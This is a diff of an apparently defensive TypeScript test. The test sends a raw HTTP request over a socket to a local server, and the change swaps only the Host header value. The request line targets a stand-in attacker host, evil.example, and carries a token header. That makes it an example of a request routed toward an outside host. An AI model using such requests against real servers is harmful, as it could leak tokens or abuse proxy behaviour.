@@ -255,7 +255,7 @@ describe('data', () => {
     const port = Number(new URL(host.origin).port);
     const socket = connect(port, '127.0.0.1');
     socket.write(
-      `GET http://evil.example/relay/log/case/checkpoint HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nx-kupuya-token: ${token}\r\nconnection: close\r\n\r\n`,
+      `GET http://evil.example/relay/log/case/checkpoint HTTP/1.1\r\nhost: localhost:${port}\r\nx-kupuya-token: ${token}\r\nconnection: close\r\n\r\n`,
     );
     const chunks: Buffer[] = [];
     socket.on('data', (chunk: Buffer) => chunks.push(chunk));
